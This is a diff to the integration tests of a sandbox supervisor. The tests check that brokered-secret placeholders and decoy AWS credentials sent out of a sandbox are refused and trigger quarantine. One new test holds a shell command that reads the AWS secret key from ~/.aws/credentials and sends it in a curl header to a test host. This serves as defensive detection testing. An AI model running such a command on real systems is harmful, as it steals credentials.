@@ -25,8 +25,9 @@ from pathlib import Path
 
 import pytest
 
-from stockade.client import Stockade
+from stockade.client import FailedPrecondition, Stockade
 from stockade.supervisor.keys import sandbox_id
+from stockade.supervisor.policy.honeytokens import derive, load_key
 from stockade.supervisor.sandboxes.brokering import installation_key, placeholder
 from tests.integration.harness import (
     Supervisor,
@@ -358,12 +359,24 @@ def test_a_placeholder_anywhere_else_is_refused_and_recorded(
     where: str,
     command: str,
 ) -> None:
+    """The request is refused (403) and recorded, its upstream never sees the placeholder,
+    and the alarm quarantines the sandbox ([quarantine] on: "placeholder"): calls refused
+    with FAILED_PRECONDITION until release. The freeze may land while the call that sent
+    it still runs: that call then ends at its (short) deadline instead."""
     client, key = box
     api_ph, git_ph = placeholders(brokered, key)
     before = len(upstreams.seen())
     audited = len(client.list_audit(sandbox_key=key, tool="network", limit=1000))
-    code, out = run(client, key, command.format(api=upstreams.api.port, git=upstreams.git.port))
-    assert out.strip().endswith("403"), f"{where}: {code} {out}"
+    sent = command.format(api=upstreams.api.port, git=upstreams.git.port)
+    result = client.sandbox(key).exec(sent, timeout=10)
+    if result.error_code != "TIMEOUT":
+        assert result.stdout.strip().endswith("403"), f"{where}: {result}"
+    with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined since .*"):
+        client.sandbox(key).exec("true")
+    evidence = client.get_quarantine(key)
+    assert [a.kind for a in evidence.quarantine.alarms] == ["placeholder"]
+    assert API_VALUE not in repr(evidence)
+    client.release_quarantine(key)
     for request in upstreams.seen()[before:]:
         data = request.head + request.body
         assert api_ph.encode() not in data, where
@@ -421,3 +434,56 @@ def test_a_restarted_supervisor_brokers_for_the_sandboxes_it_adopts(
         assert f"Bearer {MASKED}" in out
     got = upstreams.api.requests[before:]
     assert [r.header("authorization") for r in got] == [f"Bearer {API_VALUE}"]
+
+
+@needs_interception
+def test_a_decoy_read_then_sent_in_a_request_quarantines_the_sandbox(
+    engine: str, upstreams: Upstreams, tmp_path: Path
+) -> None:
+    """Honeytokens and the egress proxy together: a sandbox reads its decoy AWS secret and
+    sends it in a header to an intercepted host, the command never naming it. The proxy's
+    tripwire refuses the request (its upstream sees nothing of it), the alarm is a use, and
+    the sandbox is quarantined within that one call; its files kept, release restores it."""
+    value = tmp_path / "api"
+    value.write_text(API_VALUE)
+    value.chmod(0o600)
+    config = f"""
+[sandbox]
+network = "egress"
+[network]
+allow = ["api.test"]
+ports = [{upstreams.api.port}]
+allow_private_addresses = true
+upstream_ca_file = "{upstreams.ca_file}"
+[network.hosts]
+"api.test" = "127.0.0.1"
+[secrets.api]
+file = "{value}"
+hosts = ["api.test"]
+template = "Bearer {{secret}}"
+sandbox_env = "API_TOKEN"
+[honeytokens]
+enabled = true
+"""
+    with running_supervisor(engine, config) as sup, sup.client() as client:
+        key = f"honey-egress-{uuid.uuid4().hex[:8]}"
+        decoy = derive(load_key(sup.state_dir), key).aws_secret
+        before = len(upstreams.api.requests)
+        client.sandbox(key).write_file("kept.txt", "kept\n")
+        leak = (
+            "s=$(awk '/aws_secret_access_key/ {print $3}' ~/.aws/credentials); "
+            f'curl -sS -o /dev/null -w "%{{http_code}}" -H "X-Leak: $s" '
+            f"https://api.test:{upstreams.api.port}/echo"
+        )
+        result = client.sandbox(key).exec(leak, timeout=10)
+        if result.error_code != "TIMEOUT":  # the freeze may land before the call returns
+            assert result.stdout.strip().endswith("403"), result
+        for request in upstreams.api.requests[before:]:
+            assert decoy.encode() not in request.head + request.body
+        with pytest.raises(FailedPrecondition, match=f"sandbox '{key}' is quarantined"):
+            client.sandbox(key).exec("true")
+        (alarm,) = client.get_quarantine(key).quarantine.alarms
+        assert (alarm.kind, alarm.where) == ("honeytoken", "egress")
+        assert decoy not in alarm.evidence
+        client.release_quarantine(key)
+        assert client.sandbox(key).exec("cat kept.txt").stdout == "kept\n"
